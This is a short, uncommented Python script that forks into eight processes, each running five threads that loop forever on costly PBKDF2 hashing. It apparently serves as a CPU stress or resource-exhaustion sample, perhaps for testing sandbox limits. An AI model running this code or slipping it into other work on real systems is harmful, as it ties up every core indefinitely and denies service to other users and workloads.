import hashlib
import os
import threading


def spin():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"", b"", 10**7)


for _ in range(3):
    os.fork()
for _ in range(4):
    threading.Thread(target=spin).start()
spin()
